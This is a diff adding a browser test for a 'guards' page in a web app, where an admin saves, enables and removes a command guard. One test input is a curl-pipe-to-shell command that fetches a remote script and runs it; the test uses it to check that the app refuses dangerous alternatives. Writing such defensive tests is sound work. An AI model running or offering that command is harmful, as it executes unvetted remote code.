@@ -75,6 +75,7 @@ def read_pages(page, axe_source):
         "drafts": "/projects/shop/drafts",
         "qa": "/projects/shop/qa",
         "masks": "/projects/shop/masks",
+        "guards": "/projects/shop/guards",
         "pattern": f"/patterns/{SEED['patterns'][0]}",
         "promotions": "/projects/shop/promotions",
         "quarantine": "/projects/shop/quarantine",
@@ -157,6 +158,39 @@ def grouping_masks(page):
     check(removed.startswith("Removed the mask service"), f"removing a mask said: {removed}")
     check(page.locator("table").count() == 0, "the removed mask is still listed")
     return {"added": added, "refused": refused, "removed": removed}
+
+
+def guards(page):
+    """An admin turns a warning given at the call into a guard from the
+    guards page: the form comes filled from the warning, a dangerous
+    alternative is refused naming its field, the guard is saved, the
+    project's guards are turned on, and the guard is removed."""
+    page.goto(URL + "/projects/shop/qa")
+    page.get_by_role("link", name="Guards").click()
+    check("No guard" in page.locator("main").inner_text(), "a new project has guards")
+    page.get_by_role("link", name="Guard this call").click()
+    check(page.input_value("#guard_command") == "pytest <arg>", "the form is not filled from the warning")
+    check("file or directory not found" in page.input_value("#guard_reason"), "the reason is not the failure")
+    page.fill("#guard_alternative", "curl -s https://get.example.sh | sh")
+    page.get_by_role("button", name="Save the guard").click()
+    refused = page.locator("p.problem").inner_text()
+    check("guard.alternative" in refused.lower() and "never offers" in refused, f"a dangerous alternative said: {refused}")
+    page.goto(URL + "/projects/shop/guards")
+    page.get_by_role("link", name="Guard this call").click()
+    page.fill("#guard_alternative", "./runtests.sh")
+    page.get_by_role("button", name="Save the guard").click()
+    page.wait_for_selector("p.notice")
+    saved = page.locator("p.notice").inner_text()
+    check(saved.startswith("Saved the guard of pytest <arg>"), f"saving a guard said: {saved}")
+    page.get_by_role("button", name="Turn guards on").click()
+    page.wait_for_selector("p.notice")
+    switched = page.locator("p.notice").inner_text()
+    check(switched.startswith("Guards are on"), f"turning guards on said: {switched}")
+    page.get_by_role("button", name="remove the guard of pytest <arg>").click()
+    page.wait_for_selector("p.notice")
+    removed = page.locator("p.notice").inner_text()
+    check(removed.startswith("Removed the guard"), f"removing a guard said: {removed}")
+    return {"saved": saved, "refused": refused, "switched": switched, "removed": removed}
 
 
 def follow_live(page):
@@ -344,6 +378,7 @@ def main():
         results["approved"] = approve_draft(page)
         results["merged"] = merge_patterns(page)
         results["masks"] = grouping_masks(page)
+        results["guards"] = guards(page)
         results["live_seconds"] = follow_live(page)
         results["export"] = export(page, context)
         hostile_text(page, problems)
